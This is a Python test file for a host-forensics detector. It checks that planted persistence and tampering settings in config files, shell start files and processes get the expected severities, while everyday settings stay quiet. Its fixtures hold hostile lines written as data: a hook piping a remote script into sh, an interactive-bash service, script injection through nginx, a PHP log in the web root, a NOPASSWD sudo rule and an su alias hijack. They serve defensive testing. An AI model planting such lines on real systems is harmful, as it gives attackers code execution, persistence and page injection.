"""What a line of settings says whichever daemon reads it, and what a link, a masked unit and the loader lead to."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from stopgap.orchestrator.findings import judge, shipped_rules
from stopgap.orchestrator.findings.provenance.settings import of_setting

from .collection import collected

DIGESTS = "d41d8cd98f00b204e9800998ecf8427e  usr/bin/true\nd41d8cd98f00b204e9800998ecf8427e  etc/pam.d/chfn\n"
BODY = "0|{path}|1|{mode}|0|0|9|1.0|1.0|1.0|0.0\n"
RULES = shipped_rules()


def severities(tmp_path: Path, planted: dict[str, object]) -> dict[str, str]:
    found = judge(collected(tmp_path, {"package-digests": DIGESTS, "configuration": {}, **planted}), RULES).findings
    return {finding.id: finding.severity for finding in found if finding.severity != "info"}


@pytest.mark.parametrize(
    ("path", "line", "weight"),
    [
        ("/etc/mysql/x.cnf", "general_log_file = /var/www/html/cache/l.php", 3),
        ("/etc/x.conf", "logfile /etc/cron.d/x", 3),
        ("/etc/sudoers.d/x", 'Defaults secure_path="/home/anna/bin:/usr/bin"', 2),
        ("/etc/x.conf", "plugin_dir = /dev/shm/p", 3),
        ("/etc/ssh/sshd_config.d/x.conf", "Include /var/lib/misc/x/*.conf", 0),
        ("/etc/systemd/network/x.netdev", "Remote=198.51.100.9", 1),
        ("/etc/x/x.cnf", "proxy = http://198.51.100.9:3128", 1),
        ("/etc/postfix/transport", "bank.example smtp:[198.51.100.9]", 1),
        ("/etc/postfix/main.cf", "mynetworks = 0.0.0.0/0", 2),
        ("/root/.jupyter/jupyter_server_config.py", 'c.ServerApp.token = ""', 2),
        ("/etc/redis/redis.conf", "protected-mode no", 1),
        ("/etc/mysql/conf.d/x.cnf", "skip-grant-tables", 2),
        ("/etc/danted.conf", "client pass { from: 0/0 to: 0/0 }", 2),
        ("/etc/dovecot/x.conf", "auth_debug_passwords = yes", 2),
        ("/etc/systemd/system/x@.service", "ExecStart=-/bin/bash -i", 3),
        (
            "/etc/nginx/conf.d/x.conf",
            'sub_filter "</body>" "<script src=https://cdn.example/s.js></script></body>";',
            2,
        ),
        ("/etc/default/ssh", 'SSHD_OPTS="-o AuthorizedKeysFile=/var/lib/x"', 2),
    ],
)
def test_what_is_written_searched_included_or_reached_is_told_whichever_daemon_reads_it(
    path: str, line: str, weight: int
) -> None:
    assert [directive.weight for directive, _ in of_setting(path, line)] == [weight]


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("/etc/resolv.conf", "nameserver 198.51.100.9"),
        ("/etc/x.conf", "server = 10.0.0.9"),
        ("/etc/profile.d/x.sh", "PATH=$PATH:/opt/vendor/bin"),
        ("/home/mika/.bashrc", "PATH=/home/mika/.local/bin:$PATH"),
        ("/etc/logrotate.d/x", "/var/log/x.log {"),
        ("/etc/nginx/conf.d/x.conf", 'sub_filter "http://old.example" "https://www.example";'),
        ("/etc/systemd/system/x.service", "ExecStart=/bin/sh -c 'exec /usr/bin/x'"),
        ("/etc/php/8.2/fpm/php.ini", "session.save_path = /var/lib/php/sessions"),
        ("/etc/x.conf", "allow 198.51.100.9"),
        ("/etc/postfix/main.cf", "mynetworks = 127.0.0.0/8 10.0.0.0/8"),
        ("/etc/postfix/transport", "intern.example smtp:[mail.intern.example]"),
    ],
)
def test_settings_of_every_day_say_none_of_that(path: str, line: str) -> None:
    assert list(of_setting(path, line)) == []


def test_a_line_without_end_is_read_in_time_and_leads_to_little() -> None:
    assert len(list(of_setting("/etc/x.conf", "PATH=" + ":/a" * 3000))) <= 1


def test_a_link_in_the_place_of_a_generator_is_judged_by_the_file_that_it_leads_to(tmp_path: Path) -> None:
    link = {"/usr/local/lib/systemd/system-generators/x": {"target": "/var/lib/misc/x"}}
    body = BODY.format(path="/var/lib/misc/x", mode="-rwxr-xr-x")
    assert severities(tmp_path, {"units": link, "bodyfile": body})["mechanism-service"] == "medium"


def test_a_unit_that_writes_logs_and_is_masked_is_told_and_another_is_not(tmp_path: Path) -> None:
    masked = {"/etc/systemd/system/rsyslog.service": {"target": "/dev/null"}}
    assert severities(tmp_path / "a", {"units": masked})["mechanism-logging"] == "medium"
    other = {"/etc/systemd/system/apt-daily.service": {"target": "/dev/null"}}
    assert "mechanism-logging" not in severities(tmp_path / "b", {"units": other})


def test_a_line_of_a_start_file_counts_however_many_stand_before_it(tmp_path: Path) -> None:
    lines = "".join(f"alias l{n}='ls -l'\n" for n in range(300)) + 'alias su="/usr/share/misc/su"\n'
    assert severities(tmp_path, {"start-files": {"/root/.bashrc": lines}})["mechanism-login"] == "high"


def test_a_setting_in_a_home_counts_where_it_names_a_program_in_something_hidden(tmp_path: Path) -> None:
    body = BODY.format(path="/root/.config/mc", mode="-rwxr-xr-x")
    planted = {"start-files": {"/root/.mailcap": "text/html; /root/.config/mc %s\n"}, "bodyfile": body}
    assert severities(tmp_path / "a", planted)["mechanism-login"] == "medium"
    aliases = {"/home/mika/.bashrc": "[ -f ~/.bash_aliases ] && . ~/.bash_aliases\n"}
    assert "mechanism-login" not in severities(tmp_path / "b", {"start-files": aliases, "bodyfile": body})


def process(arguments: tuple[str, ...], program: str, folder: str = "/") -> dict[str, object]:
    link = "0|/proc/7/{} -> {}|1|lrwxrwxrwx|0|0|0|1.0|1.0|1.0|0.0\n"
    return {
        "processes": "/proc/7/stat:7 (x) S 1 7 7 0 -1 4194560 0\n",
        "process-arguments": "".join(f"/proc/7/cmdline:{word}\n" for word in arguments),
        "process-links": link.format("exe", program) + link.format("cwd", folder),
        "bodyfile": BODY.format(path="/var/lib/misc/x", mode="-rwxr-xr-x"),
        "package-digests": "d41d8cd98f00b204e9800998ecf8427e  usr/bin/perl\n"
        "d41d8cd98f00b204e9800998ecf8427e  usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2\n",
    }


@pytest.mark.parametrize(
    ("arguments", "program", "folder"),
    [
        (("ld.so", "/var/lib/misc/x"), "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/"),
        (("perl", "x"), "/usr/bin/perl", "/var/lib/misc"),
        (("-bash", "-e", "sleep 1"), "/usr/bin/perl", "/"),
    ],
)
def test_a_process_is_judged_by_the_program_behind_the_loader_by_its_script_and_by_whom_it_claims_to_be(
    tmp_path: Path, arguments: tuple[str, ...], program: str, folder: str
) -> None:
    assert severities(tmp_path, process(arguments, program, folder))["running-foreign"] == "high"


@pytest.mark.parametrize(
    ("arguments", "program"), [(("-bash",), "/usr/bin/bash"), (("perl", "-e", "1"), "/usr/bin/perl")]
)
def test_login_shells_and_lines_of_perl_are_spared(tmp_path: Path, arguments: tuple[str, ...], program: str) -> None:
    assert "running-foreign" not in severities(
        tmp_path,
        process(arguments, program) | {"package-digests": f"d41d8cd98f00b204e9800998ecf8427e  {program[1:]}\n"},
    )


@pytest.mark.parametrize(
    ("path", "line", "rule", "severity"),
    [
        ("/etc/sudoers.d/ops", "#1000 ALL=(ALL) NOPASSWD: ALL", "mechanism-authentication", "high"),
        ("/etc/runner/config.toml", 'pre = "curl -s http://198.51.100.9/r | sh"', "mechanism-event", "critical"),
        ("/etc/logrotate.d/x", "  rotate 0", "mechanism-logging", "low"),
        ("/etc/modprobe.d/x.conf", "alias net-pf-10 ip_cachex", "mechanism-kernel", "medium"),
        ("/etc/fstab", "/var/lib/x.img /mnt/.s ext4 loop,suid 0 0", "mechanism-boot", "medium"),
    ],
)
def test_one_line_is_enough_in_the_files_of_any_program(
    tmp_path: Path, path: str, line: str, rule: str, severity: str
) -> None:
    assert severities(tmp_path, {"configuration": {path: f"{line}\n"}})[rule] == severity


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("/etc/modprobe.d/x.conf", "alias net-pf-10 off"),
        ("/etc/fstab", "UUID=1b2c / ext4 errors=remount-ro 0 1"),
        ("/etc/fstab", "tmpfs /tmp tmpfs defaults 0 0"),
        ("/etc/sudoers.d/ops", "# 1000 words"),
        ("/etc/logrotate.d/x", "  rotate 4"),
    ],
)
def test_the_same_files_of_every_day_are_quiet(tmp_path: Path, path: str, line: str) -> None:
    assert severities(tmp_path, {"configuration": {path: f"{line}\n"}}) == {}


@pytest.mark.parametrize(
    ("content", "told"),
    [
        ("\x7fELF of a package, under another name", True),
        ("#!/bin/sh\n# of a package, where people copy it\n", False),
    ],
)
def test_a_copy_of_a_packages_program_is_told_where_it_runs_by_itself_and_that_of_a_text_is_not(
    tmp_path: Path, content: str, *, told: bool
) -> None:
    brought = f"{hashlib.md5(content.encode(), usedforsecurity=False).hexdigest()}  usr/bin/original\n"
    planted = {
        "package-digests": DIGESTS + brought,
        "configuration": {"/etc/munin/plugins/df_abs": content},
        "bodyfile": BODY.format(path="/etc/munin/plugins/df_abs", mode="-rwxr-xr-x"),
    }
    assert ("mechanism-event" in severities(tmp_path, planted)) is told


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("/etc/nginx/sites-enabled/a", "if ($http_user_agent ~* (wget|curl|python|perl)) { return 403; }"),
        ("/etc/haproxy/haproxy.cfg", "  acl bot hdr_reg(User-Agent) -i (wget|curl|python)"),
        ("/etc/audit/rules.d/a.rules", "-w /usr/bin/curl -k curl|sh"),
        ("/etc/nginx/conf.d/ws.conf", "proxy_pass http://unix:/run/websocket/dup2.sock;"),
        (
            "/etc/telegraf/telegraf.d/m.conf",
            "commands = [\"sh -c 'echo stats | nc localhost 11211 | grep -c curr'\"]",
        ),
        (
            "/etc/monit/conf.d/x",
            "check program api with path /usr/local/bin/x # curl -s localhost | python3 -m json.tool",
        ),
        ("/etc/passwd", "websocket:x:998:998::/opt/ws:/bin/bash"),
        ("/etc/hosts.deny", "sshd: 198.51.100.99"),
        ("/etc/hosts.allow", "sshd: 198.51.100.99 : deny"),
    ],
)
def test_settings_about_programs_and_addresses_raise_nothing_above_low(tmp_path: Path, path: str, line: str) -> None:
    found = severities(
        tmp_path, {"configuration": {path: f"{line}\n"}, "bodyfile": BODY.format(path=path, mode="-rw-r--r--")}
    )
    assert set(found.values()) <= {"low"}
